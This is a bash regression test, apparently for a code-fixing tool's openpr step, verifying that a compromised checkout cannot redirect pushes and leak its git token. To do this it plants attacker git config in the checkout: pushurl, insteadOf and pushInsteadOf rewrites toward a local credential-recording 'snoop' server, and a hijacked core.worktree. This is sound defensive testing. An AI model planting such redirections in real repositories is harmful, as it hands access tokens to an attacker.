#!/usr/bin/env bash
# Token theft by redirecting the push (issue 9, attack 1): the tests of a
# patched checkout can write its .git/config, e.g.
#   git config remote.origin.pushurl http://127.0.0.1:PORT/x.git
# and openpr used to push there, handing MEND_GIT_TOKEN to that server.
# Now every push and listing goes to the configured repository through a
# remote built for the call: pushurl, url.*.insteadOf, pushInsteadOf and
# a rewritten remote.origin.url in the checkout are ignored, and an
# attacker's server (snoop.py, which records every Authorization header
# and asks for Basic credentials) never sees the token.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/lib-fix.sh"
plan 26
make_repo
git -C "$T/remote.git" config http.receivepack true
python3 "$TOP/tests/servers/githttp.py" --port-file "$T/port" --root "$T" --user mend \
	--token tok-good --log "$T/http.log" &
cleanup "kill $!"
python3 "$TOP/tests/servers/snoop.py" --port-file "$T/snoop.port" --log "$T/snoop.log" &
cleanup "kill $!"
wait_for 5 test -s "$T/port"
wait_for 5 test -s "$T/snoop.port"
url=http://127.0.0.1:$(cat "$T/port")/remote.git
evil=http://127.0.0.1:$(cat "$T/snoop.port")
touch "$T/snoop.log"
# The stand-ins speak plain http; the token may go there (0822 tests the refusal).
export MEND_GIT_USER=mend MEND_GIT_TOKEN=tok-good MEND_ALLOW_HTTP=1 MEND_REPO=$url
good_diff > "$T/good.diff"

# fix N: patch an analysis for incident N and make its passed testrun record.
fix() {
	analysis_record "inc_000000000000082$1" "$T/good.diff" | patch > "$T/p$1.json" 2> "$T/perr$1" &&
		jq -c '.type = "testrun" | .testrun = {passed: true, confidence: 0.9}' "$T/p$1.json" \
		> "$T/t$1.json"
}
# stolen: how many requests reached the attacker with credentials.
stolen() { jq -r 'select(.authorization != null) | .path' "$T/snoop.log" | wc -l; }
on_remote() { git --git-dir="$T/remote.git" rev-parse -q --verify "refs/heads/$1"; }
has_branch() { on_remote "$1" > /dev/null; }

fix 1
is "$?" 0 "setup: patch over http with the token"
wd=$(jq -r .patch.workdir "$T/p1.json")

# What the attacker's test ran in the checkout.
git -C "$wd" config remote.origin.pushurl "$evil/x.git"
openpr --forge none "$T/t1.json" > "$T/pr1.json" 2> "$T/err1"
is "$?" 0 "remote.origin.pushurl planted: openpr still succeeds"
is "$(on_remote mend/fix-inc_0000000000000821)" "$(jq -r .patch.commit "$T/p1.json")" \
	"the branch went to the configured repository"
is "$(stolen)" 0 "the attacker's server got no credentials"
is "$(wc -l < "$T/snoop.log")" 0 "and no request at all"

fix 2
is "$?" 0 "setup: the second fix (a fetch)"
git -C "$wd" config remote.origin.pushurl "$evil/x.git"
git -C "$wd" config "url.$evil/.insteadOf" "$(dirname "$url")/"
git -C "$wd" config "url.$evil/p/.pushInsteadOf" "$(dirname "$url")/"
git -C "$wd" config http.followRedirects true
openpr --forge none "$T/t2.json" > /dev/null 2> "$T/err2"
is "$?" 0 "pushurl, insteadOf, pushInsteadOf, followRedirects planted: openpr succeeds"
ok "the branch is on the configured repository" has_branch mend/fix-inc_0000000000000822
is "$(stolen):$(wc -l < "$T/snoop.log")" "0:0" "the attacker's server saw nothing"

# patch fetches into the same checkout: the planted insteadOf is ignored there too.
fix 3
is "$?" 0 "patch fetches past a planted insteadOf"
is "$(stolen):$(wc -l < "$T/snoop.log")" "0:0" "and the attacker's server saw nothing"
ok "patch drops a planted pushurl from the checkout's config" \
	test -z "$(git -C "$wd" config remote.origin.pushurl)"

git -C "$wd" config remote.origin.url "$evil/x.git"
git -C "$wd" config remote.origin.pushurl "$evil/y.git"
openpr --forge none "$T/t3.json" > /dev/null 2> "$T/err3"
is "$?:$(stolen)" "0:0" "a rewritten remote.origin.url: pushed to the configured one, nothing stolen"
ok "the branch is there" has_branch mend/fix-inc_0000000000000823

# A planted core.worktree would have checkouts write (and clean) elsewhere.
git -C "$wd" config --remove-section "url.$evil/"
git -C "$wd" config --remove-section "url.$evil/p/"
mkdir "$T/elsewhere" && echo keep > "$T/elsewhere/file"
git -C "$wd" config core.worktree "$T/elsewhere"
analysis_record inc_0000000000000825 "$T/good.diff" | patch > /dev/null 2> "$T/wterr"
is "$?:$(cat "$T/elsewhere/file")" "75:keep" "a planted core.worktree: patch stops, nothing elsewhere is touched"
like "$(cat "$T/wterr")" "*its working tree is not the checkout itself*" "and says why"
git -C "$wd" config --unset core.worktree

# Nothing configured: openpr does not fall back to the checkout's remote.
jq -c '.incident.id = "inc_0000000000000824" | .patch.branch = "mend/fix-inc_0000000000000824"' \
	"$T/t3.json" > "$T/t4.json"
git -C "$wd" branch -f mend/fix-inc_0000000000000824 "$(jq -r .patch.commit "$T/p3.json")"
env -u MEND_REPO openpr --forge none "$T/t4.json" > "$T/out4" 2> "$T/err4"
is "$?:$(wc -c < "$T/out4")" "65:0" "no repository configured: 65, nothing printed"
like "$(cat "$T/err4")" "*refused: patch.repo '$url' names a repository, but none is configured*" \
	"and says why"
is "$(stolen):$(wc -l < "$T/snoop.log")" "0:0" "nothing reached the attacker"
not_ok "nothing was pushed" has_branch mend/fix-inc_0000000000000824
is "$(spool show inc_0000000000000824 | jq -r '.timeline[-1] | "\(.type) \(.record.refused.stage)"')" \
	"refused openpr" "the incident's timeline says why"

# A record that names another repository, or a branch that is not mend's.
jq -c --arg u "$evil/x.git" '.patch.repo = $u' "$T/t3.json" |
	openpr --forge none > /dev/null 2> "$T/err5"
is "$?:$(stolen)" "65:0" "patch.repo naming the attacker: 65, nothing stolen"
like "$(cat "$T/err5")" "*refused: patch.repo '$evil/x.git' is not the configured repository*" \
	"and says why"
# A workdir that is not mend's checkout: what is pushed must be what patch wrote.
git clone -q "$T/remote.git" "$T/other"
git -C "$T/other" branch -q mend/fix-inc_0000000000000823
jq -c --arg wd "$T/other" '.patch.workdir = $wd' "$T/t3.json" | openpr --forge none > /dev/null 2> "$T/err7"
is "$?" 65 "patch.workdir outside the spool's checkout: 65"
like "$(cat "$T/err7")" "*refused: patch.workdir '$T/other' is not the spool's checkout of '$url'" "and says why"
git -C "$wd" branch -f main "$(jq -r .patch.commit "$T/p3.json")"
before=$(git --git-dir="$T/remote.git" rev-parse main)
jq -c '.patch.branch = "main"' "$T/t3.json" | openpr --forge none > /dev/null 2> "$T/err6"
is "$?:$(git --git-dir="$T/remote.git" rev-parse main)" "65:$before" \
	"patch.branch main: 65, the default branch is not force-pushed"
